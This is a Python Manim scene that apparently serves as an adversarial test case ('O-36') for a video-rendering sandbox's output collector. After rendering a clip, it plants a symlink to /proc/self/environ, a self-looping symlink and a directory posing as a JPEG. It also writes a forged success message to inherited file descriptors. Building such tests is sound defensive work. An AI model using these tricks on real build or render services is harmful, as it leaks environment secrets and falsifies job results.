# attack: O-36
# what: Leave a pipe, a link to the kernel and a socket beside the film.
# layer: collector
# static: rejected
# class: RENDERED
import av
import os
import time
import socket

from manim import *


def finish():
    answer = '{"type":"rendered","file":"chunk.mp4","poster":"poster.jpg","preview":null}'
    for number in range(3, 64):
        try:
            os.write(number, answer.encode() + b"\n")
        except OSError:
            continue
    time.sleep(5)


def film(path, width=854, height=480, frames=30, codec="libx264", more=None):
    options = {"bf": "0", "g": "15", "x264-params": "scenecut=0:keyint=15"}
    with av.open(path, "w", format="mp4", options={"movflags": "faststart"}) as file:
        made = file.add_stream(codec, rate=15)
        made.width, made.height, made.pix_fmt = width, height, "yuv420p" if codec != "mjpeg" else "yuvj420p"
        made.options = options if codec == "libx264" else {}
        extra = more(file) if more else None
        for number in range(frames):
            picture = np.full((height, width, 3), number * 10 % 255, np.uint8)
            file.mux(made.encode(av.VideoFrame.from_ndarray(picture, format="rgb24")))
        if extra:
            extra()
        file.mux(made.encode(None))


class Attack(Scene):
    def construct(self):
        film("/job/out/chunk.mp4")
        os.mkdir("/job/out/poster.jpg")
        os.symlink("/proc/self/environ", "/job/out/frames.txt")
        os.symlink("loop", "/job/out/loop")
        finish()
